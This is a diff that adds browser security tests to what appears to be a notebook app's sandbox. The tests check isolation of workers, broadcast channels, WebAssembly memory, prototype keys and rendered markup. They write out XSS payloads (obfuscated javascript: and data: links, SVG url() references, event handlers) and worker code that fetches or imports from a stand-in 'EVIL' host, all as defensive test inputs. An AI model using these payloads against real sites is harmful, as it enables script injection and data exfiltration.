@@ -265,6 +265,70 @@ describeInBrowser('attacks', () => {
 const port = await new Promise<MessagePort>((done) => { MessagePort.prototype.postMessage = function (...all: any[]) { if (all[0]?.type) done(this); return real.apply(this, all as never) } ; console.log('x') })
 MessagePort.prototype.postMessage = real\n`
 
+    test('channels, shared workers and workers of data reach neither the page nor another notebook', async () => {
+      await page.evaluate(() => {
+        Object.assign(window, { heard: [] as unknown[] })
+        const { heard } = window as unknown as { heard: unknown[] }
+        for (const name of ['sojourn', 'notebook'])
+          new BroadcastChannel(name).onmessage = ({ data }) => heard.push(data)
+        addEventListener('storage', () => heard.push('storage'))
+      })
+      const shared = "onconnect = ({ ports: [port] }) => port.postMessage('out')"
+      await open({
+        c1: "for (const name of ['sojourn', 'notebook']) new BroadcastChannel(name).postMessage('out')\n'sent'",
+        c2: attempt(
+          `const w = new globalThis.SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(shared)}])), 'known'); await new Promise((y, n) => { w.port.onmessage = y; w.onerror = n })`,
+        ).replaceAll('result', 'r2'),
+        c3: attempt(
+          aimed(
+            'await new Promise((y, n) => { const w = new Worker(\'data:text/javascript,fetch("EVIL",{mode:"no-cors"}).then(()=>postMessage(1))\'); w.onmessage = y; w.onerror = n; setTimeout(n, 1500) })',
+            'data',
+          ),
+        ).replaceAll('result', 'r3'),
+        c4: attempt(
+          aimed('importScripts(\'data:text/javascript,importScripts("EVIL.js")\')', 'imported'),
+        ).replaceAll('result', 'r4'),
+        c5: attempt(
+          aimed(
+            "await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob(['import(\"EVIL.js\").then(() => postMessage(1), () => close())'])), { type: 'module' }); w.onmessage = y; w.onerror = n; setTimeout(n, 1500) })",
+            'module',
+          ),
+        ).replaceAll('result', 'r5'),
+      })
+      for (const cell of ['c2', 'c3', 'c4', 'c5'])
+        await expect
+          .poll(
+            async () =>
+              ((await record()).outputs[cell]?.[0] as { data?: string } | undefined)?.data,
+            patient,
+          )
+          .toMatch(/^in: /)
+      await settle(300)
+      expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual(
+        [],
+      )
+      expect(attacker.hits).toEqual([])
+      await lives()
+    })
+
+    test('a memory of WebAssembly, and keys of a prototype in what is shown, stay where they are', async () => {
+      await open({
+        c1: attempt(
+          'const all: unknown[] = []; for (;;) all.push(new Uint8Array(new WebAssembly.Memory({ initial: 65536 }).buffer).fill(1))',
+        ),
+        c2: 'display(table([JSON.parse(\'{"__proto__":1,"constructor":2,"toString":3}\')]))\nnew ((table([{ a: 1 }]) as any).constructor)(JSON.parse(\'{"kind":"scenario","data":{"constructor":{"prototype":{"polluted":1}},"__proto__":{"polluted":1}},"summary":""}\'))',
+      })
+      await settle(1500)
+      expect(
+        await page.evaluate(() => [
+          ({} as { polluted?: number }).polluted,
+          typeof {}.toString,
+          typeof {}.constructor,
+        ]),
+      ).toEqual([undefined, 'function', 'function'])
+      await lives()
+    })
+
     test('messages forged on the kernel’s own port are checked', async () => {
       await open({
         c1: `${steal}
@@ -412,6 +476,16 @@ await new Promise(() => {})`,
       '<svg><style>rect { fill: url(EVIL#a) }</style><rect style="fill: url(EVIL#a)" filter="url(EVIL#b)" width="9" height="9"/></svg>',
       '<object data="EVIL"></object><embed src="EVIL"><template><script>window.owned = 1</script></template>',
       '<div id="page" name="page"><img name="page">',
+      '<link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL"><link rel="modulepreload" href="EVIL.js">',
+      '[a](data:text/html;base64,PHNjcmlwdD5vcGVuZXIub3duZWQ9MTwvc2NyaXB0Pg==) [b](vbscript:owned) [c](&#106;ava&Tab;script&colon;window.owned=1)',
+      '[a](<java\nscript:window.owned=1>) <javascript:window.owned=1> [b]\n\n[b]: javascript&#58;window.owned=1',
+      '<a href="#" target="_blank" ping="EVIL" onclick="window.owned = 1" download>x</a><area href="javascript:window.owned=1">',
+      '<svg><filter id="f"><feImage href="EVIL" xlink:href="EVIL"/></filter><rect filter="url(#f)" width="9" height="9" cursor="url(EVIL), auto"/></svg>',
+      '<svg><rect fill="url(EVIL#a) red" stroke="image-set(&quot;EVIL&quot; 1x)" mask="url(EVIL#m)" clip-path="url( \'EVIL#c\' )" marker-start="u\\72l(EVIL#d)"/></svg>',
+      '<svg><text><textPath href="EVIL#p">x</textPath></text><script href="EVIL.js"/><handler>window.owned = 1</handler><discard begin="0s"/></svg>',
+      '<svg xmlns="http://www.w3.org/2000/svg"><desc><![CDATA[</desc><script>window.owned = 1</script>]]></desc><title><a href="javascript:window.owned=1">x</a></title></svg>',
+      '<div popover id="p">x</div><button popovertarget="p">y</button><details ontoggle="window.owned = 1" open>z</details>',
+      '<math href="javascript:window.owned=1"><maction actiontype="statusline#EVIL">x</maction></math><portal src="EVIL"></portal><fencedframe></fencedframe>',
     ])('%s', async (markup) => {
       const dirty = aimed(markup, 'markup')
       await bare.evaluate((m) => window.page.show(m, m), dirty)
